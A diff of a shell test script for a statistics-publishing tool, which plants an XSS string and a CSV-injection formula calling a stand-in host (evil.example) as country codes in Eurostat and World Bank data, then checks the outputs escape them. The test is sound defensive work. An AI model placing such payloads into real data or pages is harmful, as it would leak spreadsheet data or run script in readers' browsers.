@@ -73,19 +73,26 @@ PUB=$TMP/pub
 MARK=$'<script>alert(1)</script> <b onmouseover="x()">"q" \'s\' & &amp;'
 # ... and a code a spreadsheet would run as a formula (CSV injection).
 FORMULA='=HYPERLINK("http://evil.example/?"&A1,"click")'
-python3 - "$TMP/data/asylum_applications_annual.csv" "$MARK" "$FORMULA" <<'PY'
-import csv, sys
-rows = list(csv.reader(open(sys.argv[1])))
-for r in rows[1:]:
-    if r[0] == "AT":
-        r[0] = sys.argv[2]
-    if r[0] == "BE":
-        r[0] = sys.argv[3]
-csv.writer(open(sys.argv[1], "w", newline="")).writerows(rows)
+# Planted as two reporting countries (AT, BE) of the Eurostat JSON-stat and,
+# so that they get a rate, of the World Bank's answer.
+python3 - "$TMP/data/eurostat_migr_asyappctza.json" "$TMP/data/worldbank_population.json" "$MARK" "$FORMULA" <<'PY'
+import json, sys
+es_path, wb_path, mark, formula = sys.argv[1:]
+rename = {"AT": mark, "BE": formula}
+es = json.load(open(es_path))
+idx = es["dimension"]["geo"]["category"]["index"]
+es["dimension"]["geo"]["category"]["index"] = {rename.get(k, k): v for k, v in idx.items()}
+json.dump(es, open(es_path, "w"))
+wb = json.load(open(wb_path))
+for r in wb[1]:
+    r["country"]["id"] = rename.get(r["country"]["id"], r["country"]["id"])
+json.dump(wb, open(wb_path, "w"))
 PY
 # The EU chart names countries from a label table: the planted code gets a
-# name in it, and the name is as hostile as the code.
-LABELS=$TMP/config/labels/eurostat-geo.json
+# name in it, and the name is as hostile as the code.  (The Länderprofile
+# would make chart ids of the codes, refused elsewhere: left out here.)
+rm "$TMP/config/charts.d/host-country-profile.json"
+LABELS=$TMP/config/labels/eurostat-country.json
 cp "$LABELS" "$TMP/labels.good"
 jq --arg m "$MARK" --arg f "$FORMULA" '.[$m] = {de: $m, en: $m} | .[$f] = {de: $f, en: $f}' "$TMP/labels.good" > "$LABELS"
 SPEC=$TMP/config/charts.d/asylum-applications-monthly.json
@@ -124,10 +131,10 @@ sys.exit(0 if "'" + sys.argv[2] in cells and sys.argv[2] not in cells else 1)
 PY
 }
 check "formula: the chart CSV makes the code and label text" formula_is_text "$CUR/eu-applications-per-100k.en.csv" "$FORMULA"
-check "formula: the data CSV too" formula_is_text "$CUR/data/eurostat-asylum-annual.csv" "$FORMULA"
+check "formula: the data CSV too" formula_is_text "$CUR/data/eurostat-applicants-annual.csv" "$FORMULA"
 check "markup: the manifest carries the title as a JSON string" \
   test "$(jq -r '.charts[] | select(.id == "asylum-applications-monthly" and .lang == "en") | .title' "$CUR/index.json")" = "$MARK"
-cp "$SRC/data/asylum_applications_annual.csv" "$TMP/data/"
+cp "$SRC/data/eurostat_migr_asyappctza.json" "$SRC/data/worldbank_population.json" "$TMP/data/"
 cp "$TMP/spec.good" "$SPEC"
 cp "$TMP/labels.good" "$LABELS"
 check "markup: the clean data publishes again" test_rc 0 "$BIN/migstatd" --once --config "$TMP/config" --publish-dir "$PUB"
